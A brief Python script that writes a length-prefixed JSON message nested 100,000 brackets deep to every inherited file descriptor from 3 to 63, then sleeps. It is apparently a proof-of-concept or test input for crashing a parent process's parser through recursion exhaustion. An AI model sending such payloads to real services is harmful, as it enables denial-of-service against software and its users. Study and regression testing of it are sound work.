import os
import struct
import time

text = b'{"type": "begin", "defines": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
for number in range(3, 64):
    try:
        os.write(number, struct.pack(">IH", len(text), 0) + text)
    except OSError:
        pass
time.sleep(1000)
